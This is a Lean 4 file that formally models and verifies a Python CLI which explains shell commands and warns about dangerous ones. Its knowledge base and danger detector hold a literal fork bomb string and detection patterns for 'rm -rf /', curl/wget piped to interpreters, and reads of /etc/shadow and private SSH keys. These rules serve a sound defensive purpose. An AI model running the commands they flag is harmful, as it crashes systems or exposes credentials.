import Mathlib

/-!
Verification of the explain-cli command analysis pipeline.

The Python sources (cli.py and the src/ modules) are shallowly embedded as
executable Lean definitions: dictionaries become association lists
(`List (String × String)` with first-match lookup and in-place update),
the subprocess-based help/man text acquisition becomes an oracle parameter,
and the in-place `dict.update` mutation of a knowledge-base entry is made
explicit by returning the resulting knowledge base from the analyzer.
-/

namespace ExplainCli

/-! ## String helpers (Python string primitives) -/

/-- `p` is a prefix of `l` (Python `startswith` on char lists). -/
def listStarts : List Char → List Char → Bool
  | _, [] => true
  | [], _ :: _ => false
  | c :: l, p :: ps => c = p && listStarts l ps

/-- `sub` occurs as a contiguous substring of `l` (Python `in` on strings). -/
def listHasSub (l sub : List Char) : Bool :=
  match l with
  | [] => sub.isEmpty
  | _ :: rest => listStarts l sub || listHasSub rest sub

/-- Python `s.startswith(p)` for strings. -/
def strStarts (s p : String) : Bool := listStarts s.data p.data

/-- Python `sub in s` for strings. -/
def strHasSub (s sub : String) : Bool := listHasSub s.data sub.data

/-- Python `s.endswith(p)` for strings. -/
def strEnds (s p : String) : Bool := listStarts s.data.reverse p.data.reverse

/-- Python `s.isdigit()`: nonempty and all characters are decimal digits. -/
def pyIsDigit (s : String) : Bool := !s.data.isEmpty && s.data.all Char.isDigit

/-- Python `s[1:]` (drop the first character). -/
def pyDrop1 (s : String) : String := String.mk (s.data.drop 1)

/-- Python `s[:-1]` (drop the last character). -/
def pyDropLast1 (s : String) : String := String.mk (s.data.dropLast)

/-- Python `s.lower()` (ASCII lowering suffices for the analyzed strings). -/
def pyLower (s : String) : String := String.mk (s.data.map Char.toLower)

/-- Python `s.upper()`. -/
def pyUpper (s : String) : String := String.mk (s.data.map Char.toUpper)

/-- Python `int(s)` on an all-digit string (decimal). -/
def pyInt (s : String) : Nat :=
  s.data.foldl (fun acc c => 10 * acc + (c.toNat - '0'.toNat)) 0

/-- Python `sep.join(l)`. -/
def pyJoin (sep : String) : List String → String
  | [] => ""
  | [x] => x
  | x :: xs => x ++ sep ++ pyJoin sep xs

/-! ## Python dict operations on association lists -/

/-- First-match lookup in an association list, mirroring a Python dict read
(`d.get(k)` / `d[k]`). -/
def dictGet {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ) : Option α :=
  match d with
  | [] => none
  | (k', v) :: rest => if k' = k then some v else dictGet rest k

/-- `k in d` for a Python dict. -/
def dictMem {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ) : Bool :=
  (dictGet d k).isSome

/-- `d[k] = v` on a Python dict: overwrite an existing key in place,
otherwise append the new pair at the end (insertion order preserved). -/
def dictInsert {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ) (v : α) :
    List (κ × α) :=
  if d.any (fun p => p.1 = k) then
    d.map (fun p => if p.1 = k then (k, v) else p)
  else
    d ++ [(k, v)]

/-- `d1.update(d2)` on Python dicts: values of `d2` win on key collision,
fresh keys of `d2` are appended in order. -/
def dictUpdate {κ α : Type} [DecidableEq κ] (d₁ d₂ : List (κ × α)) : List (κ × α) :=
  d₂.foldl (fun acc p => dictInsert acc p.1 p.2) d₁

theorem dictGet_eq_none_of_not_mem_keys {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ)
    (h : k ∉ d.map Prod.fst) : dictGet d k = none := by
  induction d with
  | nil => simp [dictGet]
  | cons p rest ih =>
    obtain ⟨a, b⟩ := p
    simp only [List.map_cons, List.mem_cons, not_or] at h
    simp only [dictGet, if_neg (fun hak : a = k => h.1 hak.symm)]
    exact ih h.2

theorem dictGet_map_overwrite_same {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ) (v : α)
    (h : d.any (fun p => p.1 = k)) :
    dictGet (d.map (fun p => if p.1 = k then (k, v) else p)) k = some v := by
  induction d with
  | nil => simp at h
  | cons p rest ih =>
    by_cases hp : p.1 = k
    · rw [List.map_cons, if_pos hp]
      simp [dictGet]
    · rw [List.map_cons, if_neg hp]
      simp only [List.any_cons, Bool.or_eq_true, decide_eq_true_eq] at h
      rcases h with h | h
      · exact absurd h hp
      · obtain ⟨k', v'⟩ := p
        simp only [dictGet, if_neg hp]
        exact ih h

theorem dictGet_map_overwrite_other {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k k' : κ) (v : α)
    (hne : k' ≠ k) :
    dictGet (d.map (fun p => if p.1 = k then (k, v) else p)) k' = dictGet d k' := by
  induction d with
  | nil => simp [dictGet]
  | cons p rest ih =>
    obtain ⟨a, b⟩ := p
    by_cases hp : a = k
    · rw [List.map_cons]
      simp only [if_pos (show (a, b).1 = k from hp)]
      simp only [dictGet, if_neg (Ne.symm hne), if_neg (fun h : a = k' => hne (h.symm.trans hp))]
      exact ih
    · rw [List.map_cons]
      simp only [if_neg (show ¬ (a, b).1 = k from hp)]
      by_cases hak' : a = k'
      · simp [dictGet, hak']
      · simp [dictGet, hak', ih]

theorem dictGet_append_single_ne {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k k' : κ) (v : α)
    (hne : k' ≠ k) : dictGet (d ++ [(k, v)]) k' = dictGet d k' := by
  induction d with
  | nil => simp [dictGet, Ne.symm hne]
  | cons p rest ih =>
    obtain ⟨a, b⟩ := p
    by_cases hak' : a = k'
    · simp [dictGet, hak']
    · simp [dictGet, hak', ih]

theorem dictGet_append_single_same {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ) (v : α)
    (h : ¬ d.any (fun p => p.1 = k)) : dictGet (d ++ [(k, v)]) k = some v := by
  induction d with
  | nil => simp [dictGet]
  | cons p rest ih =>
    obtain ⟨a, b⟩ := p
    simp only [List.any_cons, Bool.or_eq_true, decide_eq_true_eq, not_or] at h
    simp only [List.cons_append, dictGet, if_neg h.1]
    exact ih (by simpa using h.2)

theorem dictGet_dictInsert_same {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ)
    (v : α) : dictGet (dictInsert d k v) k = some v := by
  unfold dictInsert
  split
  · exact dictGet_map_overwrite_same d k v (by assumption)
  · exact dictGet_append_single_same d k v (by assumption)

theorem dictGet_dictInsert_other {κ α : Type} [DecidableEq κ] (d : List (κ × α))
    (k k' : κ) (v : α) (hne : k' ≠ k) :
    dictGet (dictInsert d k v) k' = dictGet d k' := by
  unfold dictInsert
  split
  · exact dictGet_map_overwrite_other d k k' v hne
  · exact dictGet_append_single_ne d k k' v hne

/-- The central merge fact: after `d1.update(d2)`, a lookup returns `d2`'s
value when the key is present there (the update wins on collision), and
`d1`'s value otherwise — provided `d2` has no duplicate keys, as a Python
dict cannot. -/
theorem dictGet_dictUpdate {κ α : Type} [DecidableEq κ] (d₁ d₂ : List (κ × α)) (k : κ)
    (hnd : (d₂.map Prod.fst).Nodup) :
    dictGet (dictUpdate d₁ d₂) k = ((dictGet d₂ k).or (dictGet d₁ k)) := by
  induction d₂ generalizing d₁ with
  | nil => simp [dictUpdate, dictGet]
  | cons p rest ih =>
    simp only [List.map_cons, List.nodup_cons] at hnd
    have step : dictUpdate d₁ (p :: rest) = dictUpdate (dictInsert d₁ p.1 p.2) rest := by
      simp [dictUpdate]
    rw [step, ih _ hnd.2]
    obtain ⟨a, b⟩ := p
    by_cases hk : a = k
    · subst hk
      have hrest : dictGet rest a = none :=
        dictGet_eq_none_of_not_mem_keys rest a hnd.1
      simp [dictGet, hrest, dictGet_dictInsert_same]
    · simp [dictGet, Ne.symm hk, hk, dictGet_dictInsert_other _ _ _ _ (Ne.symm hk)]

theorem map_fst_map_overwrite {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ) (v : α) :
    (d.map (fun p => if p.1 = k then (k, v) else p)).map Prod.fst = d.map Prod.fst := by
  induction d with
  | nil => simp
  | cons p rest ih =>
    obtain ⟨a, b⟩ := p
    by_cases hp : a = k
    · subst hp
      simp only [List.map_cons, if_pos rfl]
      simpa using ih
    · simp only [List.map_cons, if_neg (show ¬ (a, b).1 = k from hp)]
      simpa using ih

theorem dictInsert_keys_nodup {κ α : Type} [DecidableEq κ] (d : List (κ × α)) (k : κ)
    (v : α) (h : (d.map Prod.fst).Nodup) :
    ((dictInsert d k v).map Prod.fst).Nodup := by
  unfold dictInsert
  split
  · rw [map_fst_map_overwrite]
    exact h
  · rename_i hna
    simp only [List.map_append, List.map_cons, List.map_nil]
    rw [List.nodup_append]
    refine ⟨h, by simp, ?_⟩
    intro a ha
    simp only [List.mem_singleton]
    intro hb
    subst hb
    refine hna ?_
    simp only [List.any_eq_true, decide_eq_true_eq]
    obtain ⟨p, hp, hpk⟩ := List.mem_map.mp ha
    exact ⟨p, hp, hpk⟩

theorem dictUpdate_keys_nodup {κ α : Type} [DecidableEq κ] (d₁ d₂ : List (κ × α))
    (h : (d₁.map Prod.fst).Nodup) :
    ((dictUpdate d₁ d₂).map Prod.fst).Nodup := by
  induction d₂ generalizing d₁ with
  | nil => simpa [dictUpdate]
  | cons p rest ih =>
    have step : dictUpdate d₁ (p :: rest) = dictUpdate (dictInsert d₁ p.1 p.2) rest := by
      simp [dictUpdate]
    rw [step]
    exact ih _ (dictInsert_keys_nodup _ _ _ h)

end ExplainCli

namespace ExplainCli

/-! ## Data model: knowledge entries and command details (src/knowledge_base.py) -/

/-- One knowledge-base entry (`description`, `danger_level`, optional `flags`
mapping), as stored in `COMMAND_KNOWLEDGE_BASE` and in the custom store.
`flags = none` models a Python entry without a `"flags"` key. -/
structure KBEntry where
  description : String
  danger_level : String
  flags : Option (List (String × String))
deriving DecidableEq, Repr

/-- The merged static+custom knowledge table `{command: entry}`. -/
abbrev KnowledgeBase := List (String × KBEntry)

/-- Return shape of `get_command_details` (src/man_parser.py). -/
structure CmdDetails where
  summary : String
  flags : List (String × String)
  subcommands : List (String × String)
deriving DecidableEq, Repr

/-- Outcome of the external help/man text acquisition together with the
heuristic regex extraction of src/man_parser.py (`_get_full_help_text`,
`_extract_flags`, `_extract_subcommands` and the flag-cleaning loop): an
opaque text-producing collaborator.  `found = false` models the
"Command not found:" / "Could not find help" sentinel returns, whose text
is carried in `summary`. -/
structure RawDetails where
  found : Bool
  summary : String
  flags : List (String × String)
  subcommands : List (String × String)

/-- The external collaborator: per command name, the raw extraction result. -/
abbrev Oracle := String → RawDetails

/-- `COMMAND_KNOWLEDGE_BASE` from src/knowledge_base.py, verbatim. -/
def COMMAND_KNOWLEDGE_BASE : KnowledgeBase := [
  ("sudo", ⟨"Executes a command with superuser (root) privileges.", "high", none⟩),
  ("rm", ⟨"Removes (deletes) files or directories.", "medium", some [
    ("-r", "Removes directories and their contents recursively."),
    ("-f", "Forces the removal of files without prompting for confirmation."),
    ("-i", "Prompts for confirmation before every removal.")]⟩),
  ("ls", ⟨"Lists directory contents.", "low", some [
    ("-l", "Uses a long listing format."),
    ("-a", "Shows all files, including hidden files (starting with '.')."),
    ("-h", "With -l, prints sizes in human readable format (e.g., 1K 234M 2G).")]⟩),
  ("chmod", ⟨"Changes the permissions of a file or directory.", "low", none⟩),
  ("curl", ⟨"Transfers data from or to a server, using one of the supported protocols (HTTP, HTTPS, FTP, etc.).", "medium", none⟩),
  ("wget", ⟨"A non-interactive network downloader.", "medium", none⟩),
  ("bash", ⟨"The Bourne-Again SHell, a command language interpreter.", "medium", none⟩),
  ("sh", ⟨"The standard command language interpreter.", "medium", none⟩),
  (":()\x7b :|:& \x7d;:", ⟨"A fork bomb. It is a denial-of-service attack where a process continually replicates itself to deplete available system resources, slowing down or crashing the system.", "critical", none⟩),
  ("grep", ⟨"Searches for patterns in text files.", "low", some [
    ("-i", "Ignores case distinctions in patterns and data."),
    ("-v", "Inverts the sense of matching, to select non-matching lines."),
    ("-r", "Recursively searches subdirectories.")]⟩),
  ("find", ⟨"Searches for files in a directory hierarchy.", "low", some [
    ("-name", "Searches for files with a specific name."),
    ("-type", "Searches for files of a specific type (e.g., f for file, d for directory)."),
    ("-delete", "Deletes found files. This is a dangerous flag.")]⟩),
  ("awk", ⟨"A versatile programming language for working on files.", "low", some [
    ("-F", "Specifies a field separator.")]⟩)]

/-- The find-specific flag table hard-coded in `get_command_details`
(src/man_parser.py lines 518-539), in source order. -/
def manFindFlags : List (String × String) := [
  ("-mtime", "File's data was last modified n*24 hours ago"),
  ("-mmin", "File's data was last modified n minutes ago"),
  ("-atime", "File was last accessed n*24 hours ago"),
  ("-amin", "File was last accessed n minutes ago"),
  ("-ctime", "File's status was last changed n*24 hours ago"),
  ("-cmin", "File's status was last changed n minutes ago"),
  ("-size", "File uses n units of space"),
  ("-user", "File is owned by user uname"),
  ("-group", "File belongs to group gname"),
  ("-perm", "File's permission bits are exactly mode"),
  ("-name", "Base of file name matches shell pattern pattern"),
  ("-type", "File is of type c"),
  ("-exec", "Execute command"),
  ("-executable", "Matches files which are executable"),
  ("-readable", "Matches files which are readable"),
  ("-writable", "Matches files which are writable"),
  ("-empty", "File is empty and is either a regular file or a directory"),
  ("-delete", "Delete files"),
  ("-print", "Print the full file name"),
  ("-ls", "List current file in ls -dils format")]

/-- `get_command_details` (src/man_parser.py): on the not-found sentinel it
returns empty flag/subcommand data; otherwise it passes through the
extracted summary, flags and subcommands, and for `find` injects the
hard-coded flag table, overriding extracted descriptions shorter than 10
characters (`if flag not in flags or len(flags[flag]) < 10`). -/
def get_command_details (raw : Oracle) (command : String) : CmdDetails :=
  let r := raw command
  if !r.found then
    { summary := r.summary, flags := [], subcommands := [] }
  else
    let flags := r.flags
    let flags := if command = "find" then
        manFindFlags.foldl (fun fs (p : String × String) =>
          match dictGet fs p.1 with
          | none => dictInsert fs p.1 p.2
          | some d => if d.length < 10 then dictInsert fs p.1 p.2 else fs) flags
      else flags
    { summary := r.summary, flags := flags, subcommands := r.subcommands }

/-- An oracle for which every lookup reports a found command with empty
extracted data: the analyzer then works from the static tables alone. -/
def oracleEmptyFound : Oracle := fun _ => ⟨true, "", [], []⟩

/-- An oracle for which no external help text is ever found. -/
def oracleNotFound : Oracle := fun c => ⟨false, "Could not find help for command: " ++ c, [], []⟩

/-! ## src/signals.py -/

def SIGNAL_NUMBER_TO_NAME : List (Nat × String) :=
  [(1, "SIGHUP"), (2, "SIGINT"), (3, "SIGQUIT"), (6, "SIGABRT"), (9, "SIGKILL"),
   (11, "SIGSEGV"), (13, "SIGPIPE"), (14, "SIGALRM"), (15, "SIGTERM")]

def SIGNAL_NAME_TO_DESC : List (String × String) :=
  [("SIGHUP", "Hangup detected on controlling terminal or death of controlling process"),
   ("SIGINT", "Interrupt from keyboard (Ctrl+C)"),
   ("SIGQUIT", "Quit from keyboard (core dump)"),
   ("SIGABRT", "Abort signal from abort(3)"),
   ("SIGKILL", "Kill signal (cannot be caught or ignored)"),
   ("SIGSEGV", "Invalid memory reference"),
   ("SIGPIPE", "Broken pipe: write to pipe with no readers"),
   ("SIGALRM", "Timer signal from alarm(2)"),
   ("SIGTERM", "Termination signal")]

def normalize_signal (sig : String) : String :=
  let name := pyUpper sig
  if strStarts name "SIG" then name else "SIG" ++ name

/-- `explain_signal_flag` (src/signals.py): `-9`/`-KILL`/`-SIGKILL` forms
first, then the `-s VALUE` form using the caller-provided next token. -/
def explain_signal_flag (arg : String) (next_arg : Option String) : Option String :=
  (if strStarts arg "-" && arg.length > 1 then
    let payload := pyDrop1 arg
    ((if pyIsDigit payload then
        match dictGet SIGNAL_NUMBER_TO_NAME (pyInt payload) with
        | some name =>
          let desc := (dictGet SIGNAL_NAME_TO_DESC name).getD ""
          some ("  " ++ arg ++ ": send " ++ name ++ " (" ++
            (if desc = "" then "signal" else desc) ++ ")")
        | none => none
      else none).orElse (fun _ =>
        let name := normalize_signal payload
        match dictGet SIGNAL_NAME_TO_DESC name with
        | some desc => some ("  " ++ arg ++ ": send " ++ name ++ " (" ++ desc ++ ")")
        | none => none))
  else none).orElse (fun _ =>
    match next_arg with
    | some val =>
      if arg = "-s" && val ≠ "" then
        ((if pyIsDigit val then
            match dictGet SIGNAL_NUMBER_TO_NAME (pyInt val) with
            | some name =>
              let desc := (dictGet SIGNAL_NAME_TO_DESC name).getD ""
              some ("  -s " ++ val ++ ": send " ++ name ++ " (" ++
                (if desc = "" then "signal" else desc) ++ ")")
            | none => none
          else none).orElse (fun _ =>
            let name := normalize_signal val
            match dictGet SIGNAL_NAME_TO_DESC name with
            | some desc => some ("  -s " ++ val ++ ": send " ++ name ++ " (" ++ desc ++ ")")
            | none => none))
      else none
    | none => none)

end ExplainCli

namespace ExplainCli

/-! ## src/regex_explainer.py -/

def SPECIAL_MAP : List (Char × String) :=
  [('^', "start of line"), ('$', "end of line"), ('.', "any single character"),
   ('*', "zero or more of previous"), ('+', "one or more of previous"),
   ('?', "zero or one (optional)"), ('|', "alternation (or)")]

/-- Split a char list at the first occurrence of `c`. -/
def splitFirstChar (c : Char) : List Char → Option (List Char × List Char)
  | [] => none
  | x :: xs =>
    if x = c then some ([], xs)
    else (splitFirstChar c xs).map (fun p => (x :: p.1, p.2))

/-- `re.fullmatch` of `\d+` groups separated by exactly three dots
(the IPv4-literal guard in `looks_like_regex`). -/
def isDottedQuad (s : String) : Bool :=
  let groups := go s.data
  groups.length = 4 && groups.all (fun g => !g.isEmpty && g.all Char.isDigit)
where
  go : List Char → List (List Char)
    | [] => [[]]
    | x :: xs =>
      let r := go xs
      if x = '.' then [] :: r
      else match r with
        | g :: gs => (x :: g) :: gs
        | [] => [[x]]

/-- `re.search(r'(?<!\\)C', text)` for a class of characters `C`: some
occurrence not immediately preceded by a backslash. -/
def hasUnescapedAux (special : List Char) : Option Char → List Char → Bool
  | _, [] => false
  | prev, c :: rest =>
    (special.contains c && !(prev = some '\\')) || hasUnescapedAux special (some c) rest

def hasUnescaped (special : List Char) (l : List Char) : Bool :=
  hasUnescapedAux special none l

/-- `looks_like_regex` (src/regex_explainer.py lines 15-37), with its
rejection rules checked before its acceptance rules exactly as in source. -/
def looks_like_regex (text : String) : Bool :=
  if text = "" then false
  else if text = "|" || strStarts text "-" then false
  else if strHasSub text "/" then false
  else if isDottedQuad text then false
  else if strStarts text "^" || strEnds text "$" then true
  else if text.data.any (fun c =>
    c ∈ ['[', ']', '(', ')', '|', '\x7b', '\x7d']) then true
  else if hasUnescaped ['*', '+', '?'] text.data then true
  else if hasUnescaped ['.'] text.data then true
  else false

/-- `pattern.find(']', i+1)`: split the remaining chars at the first `]`,
returning the class content and the characters after it. -/
def findCloseBracket : List Char → Option (List Char × List Char) :=
  splitFirstChar ']'

theorem splitFirstChar_post_length (c : Char) (l pre post : List Char)
    (h : splitFirstChar c l = some (pre, post)) : post.length < l.length := by
  induction l generalizing pre post with
  | nil => simp [splitFirstChar] at h
  | cons x xs ih =>
    by_cases hx : x = c
    · simp only [splitFirstChar, if_pos hx, Option.some.injEq, Prod.mk.injEq] at h
      simp [← h.2]
    · simp only [splitFirstChar, if_neg hx, Option.map_eq_some'] at h
      obtain ⟨⟨p1, p2⟩, hp, he⟩ := h
      obtain ⟨he1, he2⟩ := Prod.mk.injEq .. ▸ he
      subst he2
      exact Nat.lt_trans (ih _ _ hp) (by simp)

/-- The character-walk loop of `explain_regex`; when `[` has no closing
bracket, control falls through to the generic character handling as in the
Python loop. -/
def regexWalk : List Char → List String
  | [] => []
  | c :: rest =>
    if c = '[' then
      match hm : findCloseBracket rest with
      | some (cls, post) =>
        (if listStarts cls ['^'] then
           "not any of '" ++ String.mk (cls.drop 1) ++ "'"
         else "one of '" ++ String.mk cls ++ "'") :: regexWalk post
      | none =>
        match dictGet SPECIAL_MAP c with
        | some desc => desc :: regexWalk rest
        | none =>
          if c = '\\' && !rest.isEmpty then
            match rest with
            | nxt :: rest' => ("literal '" ++ String.mk [nxt] ++ "'") :: regexWalk rest'
            | [] => []
          else ("'" ++ String.mk [c] ++ "'") :: regexWalk rest
    else
      match dictGet SPECIAL_MAP c with
      | some desc => desc :: regexWalk rest
      | none =>
        if c = '\\' && !rest.isEmpty then
          match rest with
          | nxt :: rest' => ("literal '" ++ String.mk [nxt] ++ "'") :: regexWalk rest'
          | [] => []
        else ("'" ++ String.mk [c] ++ "'") :: regexWalk rest
termination_by l => l.length
decreasing_by
  all_goals simp_all
  all_goals try omega
  exact Nat.lt_trans (splitFirstChar_post_length ']' _ _ _ hm) (by simp)

/-- `explain_regex` (src/regex_explainer.py lines 40-103). -/
def explain_regex (pattern : String) : String :=
  let parts : List String :=
    (if strStarts pattern "^" then ["start of line"] else [])
  let p₁ := if strStarts pattern "^" then pyDrop1 pattern else pattern
  let parts := parts ++ (if strEnds p₁ "$" then ["end of line"] else [])
  let p₂ := if strEnds p₁ "$" then pyDropLast1 p₁ else p₁
  let descOpt : Option String :=
    if strStarts p₂ "[" && strEnds p₂ "]" then
      let content := String.mk ((p₂.data.drop 1).dropLast)
      some (if strStarts content "^" then "not any of '" ++ pyDrop1 content ++ "'"
            else "one of '" ++ content ++ "'")
    else if strStarts p₂ "\\" && p₂.length = 2 then
      some ("literal '" ++ pyDrop1 p₂ ++ "'")
    else if p₂ ≠ "" then
      let human := regexWalk p₂.data
      if human ≠ [] then some (pyJoin ", " human) else none
    else none
  match descOpt with
  | some desc =>
    if desc = "" then "regular expression pattern"
    else if parts ≠ [] then pyJoin ", " parts ++ ", then " ++ desc
    else desc
  | none => "regular expression pattern"

end ExplainCli

namespace ExplainCli

/-! ## src/parser.py — tokenize_command

`tokenize_command` first replaces every maximal `$<digits>` run with a
sequentially numbered placeholder `__AWK_FIELD_<n>__` (re.sub scans left to
right, greedy), then splits with `shlex.split` (POSIX rules, falling back
to plain whitespace splitting on a ValueError), then restores the
placeholders inside each token with `str.replace`. -/

/-- Helper for termination: `dropWhile` never lengthens a list. -/
theorem dropWhileLenLe (p : Char → Bool) (l : List Char) :
    (l.dropWhile p).length ≤ l.length := by
  induction l with
  | nil => simp
  | cons c rest ih =>
    by_cases h : p c
    · simp only [List.dropWhile_cons, h, if_true]
      exact Nat.le_trans ih (by simp)
    · simp [List.dropWhile_cons, h]

/-- Decimal digits of `n` (most significant first), with enough fuel;
models Python's `str(n)` / an f-string number. -/
def natDecimalAux : Nat → Nat → List Char
  | 0, _ => []
  | fuel + 1, n =>
    if n = 0 then []
    else natDecimalAux fuel (n / 10) ++ [Nat.digitChar (n % 10)]

/-- Python `str(n)` for a natural number. -/
def natDecimal (n : Nat) : List Char :=
  if n = 0 then ['0'] else natDecimalAux n n

/-- The placeholder string for counter `n`
(`f"__AWK_FIELD_{placeholder_counter}__"`). -/
def markerStr (n : Nat) : String := "__AWK_FIELD_" ++ String.mk (natDecimal n) ++ "__"

/-- The protection pass: returns the protected char sequence and the
`(placeholder, original)` pairs in insertion order. -/
def protectAux : List Char → Nat → List Char × List (List Char × List Char)
  | [], _ => ([], [])
  | c :: rest, n =>
    if c = '$' && !(rest.takeWhile Char.isDigit).isEmpty then
      let ds := rest.takeWhile Char.isDigit
      let r := protectAux (rest.dropWhile Char.isDigit) (n + 1)
      ((markerStr n).data ++ r.1, ((markerStr n).data, '$' :: ds) :: r.2)
    else
      let r := protectAux rest n
      (c :: r.1, r.2)
termination_by l _ => l.length
decreasing_by
  · exact Nat.lt_succ_of_le (dropWhileLenLe _ _)
  · simp

/-- shlex whitespace characters. -/
def shWs : List Char := [' ', '\t', '\r', '\n']

/-- States of the POSIX `shlex.split` scanner: outside quotes, inside
single/double quotes, and the two escape states (after a backslash outside
quotes and after a backslash inside double quotes). -/
inductive ShMode | norm | squote | dquote | escNorm | escDq
deriving DecidableEq

/-- The `shlex.split` state machine.  `cur = none` means no token has been
started; an empty quoted string yields an empty token.  `none` as overall
result models the ValueError raised on an unterminated quote or a trailing
escape character. -/
def shlexCore : ShMode → Option (List Char) → List (List Char) → List Char →
    Option (List (List Char))
  | .norm, cur, acc, [] =>
    some (match cur with | some t => acc ++ [t] | none => acc)
  | .squote, _, _, [] => none
  | .dquote, _, _, [] => none
  | .escNorm, _, _, [] => none
  | .escDq, _, _, [] => none
  | .norm, cur, acc, c :: rest =>
    if c ∈ shWs then
      match cur with
      | some t => shlexCore .norm none (acc ++ [t]) rest
      | none => shlexCore .norm none acc rest
    else if c = '\'' then shlexCore .squote (some (cur.getD [])) acc rest
    else if c = '"' then shlexCore .dquote (some (cur.getD [])) acc rest
    else if c = '\\' then shlexCore .escNorm (some (cur.getD [])) acc rest
    else shlexCore .norm (some (cur.getD [] ++ [c])) acc rest
  | .squote, cur, acc, c :: rest =>
    if c = '\'' then shlexCore .norm cur acc rest
    else shlexCore .squote (some (cur.getD [] ++ [c])) acc rest
  | .dquote, cur, acc, c :: rest =>
    if c = '"' then shlexCore .norm cur acc rest
    else if c = '\\' then shlexCore .escDq cur acc rest
    else shlexCore .dquote (some (cur.getD [] ++ [c])) acc rest
  | .escNorm, cur, acc, c :: rest =>
    shlexCore .norm (some (cur.getD [] ++ [c])) acc rest
  | .escDq, cur, acc, c :: rest =>
    if c = '\\' || c = '"' then shlexCore .dquote (some (cur.getD [] ++ [c])) acc rest
    else shlexCore .dquote (some (cur.getD [] ++ ['\\', c])) acc rest

/-- `shlex.split(s)` in POSIX mode. -/
def shlexSplit (l : List Char) : Option (List (List Char)) :=
  shlexCore .norm none [] l

/-- The whitespace-split fallback (`protected_string.split()`). -/
def wsSplit : List Char → List (List Char)
  | [] => []
  | c :: rest =>
    if c ∈ shWs then wsSplit rest
    else (c :: rest.takeWhile (fun x => !(x ∈ shWs))) ::
      wsSplit (rest.dropWhile (fun x => !(x ∈ shWs)))
termination_by l => l.length
decreasing_by
  · simp
  · exact Nat.lt_succ_of_le (dropWhileLenLe _ _)

/-- Python `t.replace(m, r)`: replace all non-overlapping occurrences of
`m`, scanning left to right (`m` nonempty). -/
def replaceAllAux (m r : List Char) : List Char → List Char
  | [] => []
  | c :: rest =>
    if !m.isEmpty && listStarts (c :: rest) m then
      r ++ replaceAllAux m r ((c :: rest).drop m.length)
    else c :: replaceAllAux m r rest
termination_by l => l.length
decreasing_by
  · rename_i h
    have hm : m.length ≥ 1 := by
      cases m with
      | nil => simp at h
      | cons _ _ => simp
    simp only [List.length_drop, List.length_cons]
    omega
  · simp

def replaceAll (t m r : List Char) : List Char :=
  if m.isEmpty then t else replaceAllAux m r t

/-- Restore placeholders inside one token
(`for placeholder, original in awk_placeholders.items(): token = token.replace(...)`). -/
def restoreToken (pairs : List (List Char × List Char)) (t : List Char) : List Char :=
  pairs.foldl (fun tok p => replaceAll tok p.1 p.2) t

/-- `tokenize_command` (src/parser.py). -/
def tokenize_command (command_string : String) : List String :=
  let pr := protectAux command_string.data 0
  let tokens := match shlexSplit pr.1 with
    | some ts => ts
    | none => wsSplit pr.1
  tokens.map (fun t => String.mk (restoreToken pr.2 t))

end ExplainCli

namespace ExplainCli

/-! ## src/danger_detector.py -/

/-- The per-downloader-token scan: for every token equal to `curl`/`wget`
with a following token, inspect that following token (the URL). -/
def downloaderWarnings : List String → List String
  | [] => []
  | [_] => []
  | t :: next :: rest =>
    (if t = "curl" || t = "wget" then
      let url := next
      if [".py", ".sh", ".bash", ".pl", ".rb", ".js", ".php"].any
          (fun e => strHasSub (pyLower url) e) then
        ["WARNING: This command downloads a script file (" ++ url ++
         ") and pipes it to an interpreter. This could execute malicious code!"]
      else if strHasSub (pyLower url) "attacker" || strHasSub (pyLower url) "malware" ||
          strHasSub (pyLower url) "evil" then
        ["WARNING: This command downloads from a suspicious URL (" ++ url ++
         ") and pipes it to an interpreter. This is likely malicious!"]
      else []
    else []) ++ downloaderWarnings (next :: rest)

def sensitivePaths : List (String × String) :=
  [("/etc/shadow", "Contains password hashes for system users (highly sensitive)"),
   ("/etc/passwd", "Contains user account information (less sensitive but still private)"),
   ("~/.ssh/id_rsa", "Private SSH key (highly sensitive)"),
   ("~/.ssh/id_ed25519", "Private SSH key (highly sensitive)"),
   ("/root/.ssh/id_rsa", "Root's private SSH key (highly sensitive)")]

def readCommands : List String :=
  ["cat", "less", "more", "head", "tail", "sed", "awk", "grep", "cut"]

/-- `detect_dangerous_patterns` (src/danger_detector.py), warnings in
source append order. -/
def detect_dangerous_patterns (command_string : String) (tokens : List String) :
    List String :=
  (if tokens.contains "rm" && tokens.contains "-rf" && tokens.contains "/" then
    ["The command 'rm -rf /' will delete all files on your system."] else [])
  ++ (if ["curl", "wget"].any (fun c => tokens.contains c) then
      (if strHasSub command_string "|" &&
          ["bash", "sh", "python", "python3", "perl", "ruby", "node", "php"].any
            (fun s => tokens.contains s) then
        ["Downloading and executing a script from the internet can be dangerous."]
      else [])
      ++ (if strHasSub command_string "|" then downloaderWarnings tokens else [])
    else [])
  ++ (if tokens.contains ">" && tokens.contains "/dev/null" then
    ["Redirecting output to /dev/null will hide all output and errors."] else [])
  ++ (if strHasSub command_string ":()\x7b :|:& \x7d;:" then
    ["This is a fork bomb and will likely crash your system."] else [])
  ++ (if readCommands.any (fun c => tokens.contains c) then
      tokens.filterMap (fun tok =>
        (dictGet sensitivePaths tok).map (fun d =>
          "Reading sensitive file: " ++ tok ++ ". " ++ d ++ "."))
    else [])

/-! ## cli.py helpers -/

/-- `rfind`: highest index at which `sub` starts in `l` (scanning forward,
keeping the last hit). -/
def rfindSubAux (sub : List Char) : List Char → Nat → Option Nat → Option Nat
  | [], _, best => best
  | c :: rest, i, best =>
    rfindSubAux sub rest (i + 1) (if listStarts (c :: rest) sub then some i else best)

/-- One `break_char` attempt of `truncate_description`: succeed only when
the last occurrence sits beyond 70% of the maximum length. -/
def truncBreakOne (truncated : String) (bc : String) : Option String :=
  match rfindSubAux bc.data truncated.data 0 none with
  | some idx => if idx > 70 then
      some (String.mk (truncated.data.take (idx + 1)) ++ "...") else none
  | none => none

/-- `truncate_description` (cli.py lines 113-125) with the default
`max_length = 100`. -/
def truncate_description (description : String) : String :=
  if description.length ≤ 100 then description
  else
    let truncated := String.mk (description.data.take 100)
